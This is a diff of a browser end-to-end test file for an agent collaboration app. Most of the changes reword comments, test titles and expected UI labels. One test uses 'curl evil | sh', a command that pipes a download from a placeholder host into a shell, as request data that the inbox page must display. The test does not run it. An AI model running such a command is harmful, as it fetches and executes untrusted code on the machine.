@@ -124,6 +124,8 @@ describe('a task', () => {
     await page.getByRole('button', { name: 'Create task' }).click()
     await page.getByTestId('task-state').waitFor()
     const id = page.url().split('/').at(-1)!
+    // A screen reader and a copy get the name and the role as separate words.
+    await page.getByText('You owner', { exact: true }).waitFor()
     await stage.call('planner', 'collaboration/task.start', { task_id: id })
     await page.locator('[data-testid=task-state][data-state=in_progress]').waitFor()
     assert.equal(await page.getByTestId('task-state').locator('[aria-current]').count(), 1)
@@ -158,7 +160,7 @@ describe('a task', () => {
     await stage.call('robin', 'delegation/run.progress', { run_id: items[0].run_id, message: 'Half of the tables', percent: 50 })
     await page.getByText('Half of the tables').waitFor()
     await shoot(page, 'agents')
-    // Somebody who owns nothing follows the tasks that they may read.
+    // A person who owns nothing follows the tasks that they can read.
     await stage.call('maya', 'collaboration/reviewer.add', { task_id: task.id, user: 'user_tom' })
     const tom = await stage.open('tom', '/agents')
     await tom.getByText('Half of the tables').waitFor()
@@ -195,7 +197,8 @@ test('a grant is given beside an approval, listed and revoked', async () => {
 test('a field named as proposed actions in a plain request is an argument like any other', async () => {
   const asked = await stage.ask('robin', { item: 'Run two steps', details: { proposed_actions: [null, 'curl evil | sh'] } })
   const page = await stage.open('maya', `/inbox/${asked.id}`)
-  await page.getByRole('region', { name: 'The exact action' }).getByText('curl evil | sh').waitFor()
+  await page.getByRole('region', { name: 'What the agent asks to do' }).getByText('curl evil | sh').waitFor()
+  for (const text of ['You answer for it', 'Robin asks']) await page.getByText(text, { exact: true }).waitFor()
 })
 
 describe('deciding on a checkpoint', () => {
@@ -264,7 +267,7 @@ describe('the record', () => {
     assert.match((await saved).suggestedFilename(), /ndjson$/)
   })
 
-  test('who owns no project verifies a task', async () => {
+  test('a person without a project verifies a task', async () => {
     const task = await begun('For the record')
     await stage.call('maya', 'collaboration/reviewer.add', { task_id: task.id, user: 'user_tom' })
     const page = await stage.open('tom', `/record?task=${task.id}`)
@@ -385,7 +388,7 @@ test('everything of one’s own projects is found: lists, names, filter, palette
   await page.getByRole('dialog').getByRole('button', { name: 'Reassign' }).click()
   await page.getByTestId('task-timeline').getByText('handed it to').waitFor()
   // Ended early, it says so everywhere.
-  await stage.call('maya', 'collaboration/task.cancel', { task_id: task.id, reason: 'Not needed any more' })
+  await stage.call('maya', 'collaboration/task.cancel', { task_id: task.id, reason: 'No longer needed' })
   await page.getByTestId('task-timeline').getByText('Run stopped').last().waitFor()
   await page.getByTestId('task-state').getByText('Cancelled').waitFor()
   assert.deepEqual(await page.getByTestId('task-state').getByRole('listitem').allTextContents(), [
@@ -402,7 +405,7 @@ test('everything of one’s own projects is found: lists, names, filter, palette
   await run.getByTestId('project-name').waitFor()
 })
 
-test('a review stands beside what was requested before, follows others, and shows who decided, with the receipt', async () => {
+test('a review shows what was requested before, follows others, and shows who decided, with the receipt', async () => {
   const task = await delivered('Leave old clients alone')
   await stage.call('maya', 'collaboration/reviewer.add', { task_id: task.id, user: 'user_tom' })
   const { items } = await stage.call('maya', 'collaboration/artifact.list', { task_id: task.id })
@@ -441,7 +444,7 @@ test('a review stands beside what was requested before, follows others, and show
   await shoot(page, 'phone-review')
 })
 
-test('an owner of the installation who is a member of a project is offered what the server allows, and told why', async () => {
+test('an installation owner who is a project member is offered what the server allows, with the reason', async () => {
   await stage.call('admin', 'identity/project.add', { id: 'project_lab', name: 'Lab' })
   await stage.call('admin', 'identity/project.join', { project_id: 'project_lab', subject: 'user_maya' })
   const page = await stage.open('maya', '/record?project=project_lab')
